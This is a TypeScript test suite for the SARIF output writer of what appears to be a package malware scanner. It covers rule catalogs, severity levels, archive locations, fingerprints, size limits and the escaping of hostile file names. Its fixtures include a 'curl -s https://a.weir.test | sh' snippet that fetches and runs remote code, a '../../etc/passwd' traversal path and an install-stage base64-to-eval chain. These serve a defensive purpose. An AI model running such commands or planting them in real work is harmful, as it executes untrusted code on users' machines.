import { DETECTORS } from '@weir/detectors';
import { describe, expect, it } from 'vitest';
import { sarifValidator } from '../../testing/json-schemas.ts';
import { sampleAnalysis, sampleFinding, scannedAs, scannedInVain } from '../../testing/sample-scan.ts';
import type { Scanned } from '../scanner.ts';
import type { Run, SarifLog } from './document.ts';
import { createSarifWriter, type SarifLimits } from './writer.ts';

const CWD = '/work/app';
const problemsOf = sarifValidator();

/** The only run of the log of these results, after the official schema had nothing against it. */
function runOf(scanned: readonly Scanned[], limits?: SarifLimits): Run {
  let text = '';
  const writer = createSarifWriter(
    (part) => {
      text += part;
    },
    CWD,
    limits,
  );
  for (const one of scanned) writer.write(one);
  writer.end(1);
  const log: SarifLog = JSON.parse(text);
  expect(problemsOf(log)).toEqual([]);
  expect(log.runs).toHaveLength(1);
  const [run] = log.runs;
  if (!run) throw new Error('no run');
  return run;
}

const inDirectory = { kind: 'directory', path: `${CWD}/lib/core` } as const;
const inArchive = { kind: 'file', path: `${CWD}/x-1.0.0.tgz` } as const;

function locationsOf(run: Run): unknown[] {
  return run.results.map(({ locations }) => locations[0]?.physicalLocation);
}

describe('a SARIF log', () => {
  it('has one run for all targets, with every rule of the catalog and its help', () => {
    const run = runOf([
      scannedAs('lib/core', inDirectory, sampleAnalysis([sampleFinding()])),
      scannedAs('x-1.0.0.tgz', inArchive, sampleAnalysis([sampleFinding()])),
    ]);

    const ids = DETECTORS.flatMap(({ id, rules }) => rules.map((rule) => `${id}/${rule.id}`));
    expect(run.tool.driver.rules.map(({ id }) => id)).toEqual(ids);
    expect(run.tool.driver.rules.every(({ help }) => help !== undefined && help.text.length > 20)).toBe(true);
    expect(run.results).toHaveLength(2);
    for (const { ruleId, ruleIndex } of run.results)
      expect(run.tool.driver.rules[ruleIndex]?.id).toBe(ruleId);
  });

  it('shows what only ranks as a note, and says that it ranks', () => {
    const { rules } = DETECTORS.find(({ id }) => id === 'likeness') ?? { rules: [] };
    const [rule] = rules;
    const found = sampleFinding({
      detector: 'likeness',
      rule: `likeness/${rule?.id}`,
      kind: 'ranking',
      severity: rule?.severityMax ?? 'high',
    });
    const [result] = runOf([scannedAs('lib/core', inDirectory, sampleAnalysis([found]))]).results;

    expect(result).toMatchObject({ level: 'note', properties: { kind: 'ranking' } });
  });

  it('points at files of a directory relative to where it was run', () => {
    const location = { file: 'src/a b#.js', line: 7, endLine: 9, layer: null };
    const run = runOf([scannedAs('lib/core', inDirectory, sampleAnalysis([sampleFinding({ location })]))]);

    expect(locationsOf(run)).toEqual([
      {
        artifactLocation: { uri: 'lib/core/src/a%20b%23.js', uriBaseId: 'SRCROOT', index: 0 },
        region: {
          startLine: 7,
          startColumn: 1,
          endLine: 9,
          snippet: { text: 'curl -s https://a.weir.test | sh' },
        },
      },
    ]);
    expect(run.originalUriBaseIds).toEqual({ SRCROOT: { uri: 'file:///work/app/' } });
    expect(run.invocations[0]?.workingDirectory).toEqual({ uri: 'file:///work/app/' });
  });

  it('nests a member in its archive, with the text that viewers show', () => {
    const sources = [{ file: 'package.json', path: 'package/package.json', text: '{\n}\n' }];
    const run = runOf([scannedAs('x-1.0.0.tgz', inArchive, sampleAnalysis([sampleFinding()], { sources }))]);

    expect(locationsOf(run)).toMatchObject([
      { artifactLocation: { uri: 'package/package.json', index: 1 }, region: { startLine: 5 } },
    ]);
    expect(run.artifacts).toMatchObject([
      { location: { uri: 'x-1.0.0.tgz', uriBaseId: 'SRCROOT' }, hashes: { 'sha-256': 'a'.repeat(64) } },
      { location: { uri: 'package/package.json' }, parentIndex: 0, contents: { text: '{\n}\n' } },
    ]);
  });

  it('names the archive of a release, which is nowhere on this machine', () => {
    const origin = {
      kind: 'release',
      purl: 'pkg:npm/%40acme/core@1.0.0',
      filename: 'core-1.0.0.tgz',
    } as const;
    const run = runOf([
      scannedAs('@acme/core@1.0.0', origin, sampleAnalysis([sampleFinding({ location: null })])),
    ]);

    expect(locationsOf(run)).toEqual([
      { artifactLocation: { uri: 'npm/%40acme/core@1.0.0/core-1.0.0.tgz', index: 0 } },
    ]);
  });

  it('leads no viewer out of the archive', () => {
    const location = { file: '../../etc/passwd', line: 1, endLine: null, layer: null };
    const run = runOf([scannedAs('x.tgz', inArchive, sampleAnalysis([sampleFinding({ location })]))]);

    expect(locationsOf(run)).toEqual([
      { artifactLocation: { uri: 'x-1.0.0.tgz', uriBaseId: 'SRCROOT', index: 0 } },
    ]);
  });

  it('marks the line on which a layer begins', () => {
    const location = { file: 'a.js', line: 2, endLine: null, layer: 'base64' };
    const hidden = sampleFinding({ location, chain: ['a.js:70 base64', 'eval'] });
    const run = runOf([scannedAs('x.tgz', inArchive, sampleAnalysis([hidden]))]);

    expect(locationsOf(run)).toMatchObject([{ region: { startLine: 70, startColumn: 1 } }]);
    expect(run.results[0]?.properties).toMatchObject({
      stage: 'install',
      confidence: 0.9,
      layer: 'base64',
      layerLine: 2,
    });
    expect(run.results[0]?.message.text).toContain('under base64, line 2 of that text');
  });

  it('takes the level from the severity', () => {
    const findings = (['critical', 'high', 'medium', 'low', 'info'] as const).map((severity) =>
      sampleFinding({ severity }),
    );
    const run = runOf([scannedAs('x.tgz', inArchive, sampleAnalysis(findings))]);

    expect(run.results.map(({ level }) => level)).toEqual(['error', 'error', 'warning', 'note', 'note']);
  });

  it('tells results apart, and knows them again when their line moves', () => {
    const at = (line: number): Scanned =>
      scannedAs(
        'x.tgz',
        inArchive,
        sampleAnalysis([
          sampleFinding({ location: { file: 'a.js', line, endLine: null, layer: null } }),
          sampleFinding({ location: { file: 'a.js', line: line + 1, endLine: null, layer: null } }),
        ]),
      );
    const prints = (run: Run): unknown[] =>
      run.results.map(({ partialFingerprints }) => partialFingerprints.primaryLocationLineHash);

    const before = prints(runOf([at(5)]));

    expect(new Set(before).size).toBe(2);
    expect(prints(runOf([at(50)]))).toEqual(before);
  });

  it('describes a rule that the catalog does not know', () => {
    const run = runOf([
      scannedAs(
        'x.tgz',
        inArchive,
        sampleAnalysis([sampleFinding({ rule: 'analysis/timeout', detector: 'analysis' })]),
      ),
    ]);

    expect(run.tool.driver.rules[run.results[0]?.ruleIndex ?? -1]).toMatchObject({ id: 'analysis/timeout' });
  });

  it('says which targets failed and what was not read', () => {
    const skipped = Array.from({ length: 30 }, (_, index) => ({
      file: `${index}.bin`,
      reason: 'over the byte budget',
      sizeBytes: 1,
    }));
    const run = runOf([
      scannedInVain('gone.tgz', 'no such file'),
      scannedAs('x.tgz', inArchive, sampleAnalysis([], { skipped })),
    ]);

    const [invocation] = run.invocations;
    const texts = invocation?.toolExecutionNotifications.map(({ message }) => message.text) ?? [];
    expect(invocation?.executionSuccessful).toBe(false);
    expect(texts[0]).toBe('gone.tgz: no such file');
    expect(texts[1]).toBe('x.tgz: not read: 0.bin: over the byte budget');
    expect(texts.at(-1)).toBe('x.tgz: 10 more files were not read');
    for (const { descriptor } of invocation?.toolExecutionNotifications ?? [])
      expect(run.tool.driver.notifications[descriptor.index]?.id).toBe(descriptor.id);
  });

  it('keeps the worst results of too many, and says so', () => {
    const target = (name: string, severity: 'low' | 'high'): Scanned =>
      scannedAs(
        name,
        { kind: 'file', path: `${CWD}/${name}` },
        sampleAnalysis(Array.from({ length: 3 }, () => sampleFinding({ severity }))),
      );
    const run = runOf([target('a', 'low'), target('b', 'high'), target('c', 'low')], {
      resultsMax: 4,
      textsCharsMax: 100,
    });

    expect(run.results.map(({ properties }) => properties.target)).toEqual(['a', 'b', 'b', 'b']);
    expect(run.invocations[0]?.toolExecutionNotifications.map(({ message }) => message.text)).toEqual([
      'left out: 5 findings of 9, the least severe; NDJSON has all',
    ]);
  });

  it('leaves out texts that would make it too large, and says so', () => {
    const sources = [{ file: 'package.json', path: 'package/package.json', text: 'x'.repeat(60) }];
    const scanned = scannedAs('x.tgz', inArchive, sampleAnalysis([sampleFinding()], { sources }));
    const run = runOf([scanned, scanned], { resultsMax: 10, textsCharsMax: 100 });

    expect(run.artifacts.filter(({ contents }) => contents !== undefined)).toHaveLength(1);
    expect(run.invocations[0]?.toolExecutionNotifications[0]?.message.text).toContain('text of 1 file');
  });

  it('is harmless to show, whatever the names are', () => {
    const evil = 'a\u001b[2J\u202E\n[x](data:x)\uD800';
    const run = runOf([
      scannedAs(
        evil,
        inArchive,
        sampleAnalysis([
          sampleFinding({
            summary: evil,
            snippet: evil,
            location: { file: evil, line: 1, endLine: null, layer: null },
          }),
        ]),
      ),
      scannedInVain(evil, evil),
    ]);

    expect(run.results[0]?.message.text).not.toMatch(/\]\(/);
    expect(run.results[0]?.message.text).toContain('\\u{1b}[2J');
    expect(run.artifacts[1]?.location.uri).toMatch(/^[A-Za-z0-9%()._~!*'/-]+$/);
  });

  it('is a log also when there was nothing to look at', () => {
    const run = runOf([]);

    expect(run).toMatchObject({ results: [], artifacts: [], invocations: [{ executionSuccessful: true }] });
  });
});
